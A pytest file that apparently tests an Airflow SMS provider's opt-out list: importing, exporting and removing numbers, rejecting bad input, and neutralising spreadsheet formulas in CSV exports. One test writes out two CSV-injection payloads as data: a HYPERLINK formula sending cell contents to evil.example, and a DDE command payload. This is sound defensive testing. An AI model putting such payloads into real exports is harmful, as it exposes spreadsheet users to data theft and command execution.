"""The opt-out list's operators, run through Airflow (``dag.test``): import, export, remove."""

from __future__ import annotations

import csv

import pytest

from airflow_provider_orange_sms.opt_out import (
    OptOutRecord,
    variable_key,
)
from tests.support.dags import TEST_DAGS, load_dag, xcom
from tests.support.opt_out import decision_in_force, opt_out_records_cleared

NUMBERS = ["+2250700004101", "+2250700004102", "+2250700004103"]


@pytest.fixture(autouse=True)
def clean_list(airflow_db):
    with opt_out_records_cleared(NUMBERS):
        yield


def mine(entries):
    return [e for e in entries if e["number"] in NUMBERS]


def test_import_export_and_remove(tmp_path, monkeypatch):
    from airflow.sdk import Variable

    if not hasattr(Variable, "keys"):
        pytest.skip("exporting needs Airflow 3.3 (Variable.keys)")
    exported = tmp_path / "opt_out.csv"
    monkeypatch.setenv("OPT_OUT_EXPORT_CSV", str(exported))

    run = load_dag(TEST_DAGS / "opt_out_list.py", "test_opt_out_list").test()

    assert run.state == "success"
    assert xcom(run, "import") == NUMBERS  # normalised, the CSV's repeat of the first once
    assert [(e["number"], e["opted_out"], e["source"]) for e in mine(xcom(run, "export"))] == [
        (n, True, "import") for n in NUMBERS
    ]
    with exported.open() as handle:
        # Behind a quote: a spreadsheet shows the number as text, never as a formula (+…).
        quoted = [f"'{n}" for n in NUMBERS]
        assert [row["number"] for row in csv.DictReader(handle) if row["number"] in quoted] == quoted
    removed = decision_in_force(NUMBERS[0])
    assert removed is not None
    assert not removed.opted_out
    assert removed.source == "operator"
    assert [(e["number"], e["opted_out"]) for e in mine(xcom(run, "export_after"))] == [
        (NUMBERS[0], False),
        (NUMBERS[1], True),
        (NUMBERS[2], True),
    ]


def test_a_bad_number_fails_the_import_before_any_write():
    run = load_dag(TEST_DAGS / "opt_out_list.py", "test_opt_out_import_bad").test()

    assert run.get_task_instance("import").state == "failed"
    assert decision_in_force(NUMBERS[0]) is None  # the good one is not written either


def test_every_bad_number_is_named_with_where_it_is():
    from airflow_provider_orange_sms.opt_out import parse_numbers

    with pytest.raises(ValueError, match="invalid number") as error:
        parse_numbers(["+2250700004101", "+22507000041xx"], None, "number\n12\n", "number", None)
    message = str(error.value)
    assert message.startswith("2 invalid number(s)")
    assert "numbers[1] '+22507000041xx'" in message
    assert "CSV line 2 '12'" in message


def test_a_csv_without_the_number_column_is_refused():
    from airflow_provider_orange_sms.opt_out import parse_numbers

    with pytest.raises(ValueError, match="without a 'number' column"):
        parse_numbers(None, None, "phone\n+2250700004101\n", "number", None)


def test_the_export_neutralises_formulas_and_its_file_imports_again(tmp_path, monkeypatch):
    """A reply's messageId written as a formula is exported as text; numbers behind a quote
    (``'+225…``) read back by the import: export → import round-trips."""
    from airflow.models.variable import Variable as StoredVariable
    from airflow.sdk import Variable

    if not hasattr(Variable, "keys"):
        pytest.skip("exporting needs Airflow 3.3 (Variable.keys)")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for number, message_id in ((NUMBERS[0], formula), (NUMBERS[1], "@SUM(1+1)*cmd|' /C calc'!A0")):
        record = OptOutRecord(
            number=number,
            opted_out=True,
            at="2026-03-01T10:00:00+00:00",
            source="inbound",
            keyword="-STOP",
            message_id=message_id,
        )
        StoredVariable.set(variable_key(number), record.to_json())
    exported = tmp_path / "opt_out.csv"
    monkeypatch.setenv("OPT_OUT_EXPORT_CSV", str(exported))

    run = load_dag(TEST_DAGS / "opt_out_list.py", "test_opt_out_round_trip").test()

    assert run.state == "success"
    with exported.open(newline="") as handle:
        rows = {row["number"]: row for row in csv.DictReader(handle)}
    first, second = rows[f"'{NUMBERS[0]}"], rows[f"'{NUMBERS[1]}"]
    assert first["message_id"] == "'" + formula
    assert second["message_id"].startswith("'@SUM")
    assert first["keyword"] == "'-STOP"
    assert (first["at"], first["source"], first["opted_out"]) == (
        "2026-03-01T10:00:00+00:00",
        "inbound",
        "True",
    )
    no_formula = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(no_formula) for row in rows.values() for cell in row.values())
    # Read back: the numbers as E.164, the records rewritten by the import (source import).
    assert set(NUMBERS[:2]) <= set(xcom(run, "import"))
    imported = decision_in_force(NUMBERS[0])
    assert imported is not None
    assert (imported.opted_out, imported.source) == (True, "import")


def test_an_export_s_opted_in_rows_are_not_imported():
    from airflow_provider_orange_sms.opt_out import parse_numbers

    exported = (
        "number,opted_out,at,source,keyword,message_id\n"
        "'+2250700004101,True,2026-01-01T00:00:00+00:00,inbound,stop,\n"
        "'+2250700004102,False,2026-01-02T00:00:00+00:00,inbound,start,\n"
    )
    assert parse_numbers(None, None, exported, "number", None) == ["+2250700004101"]
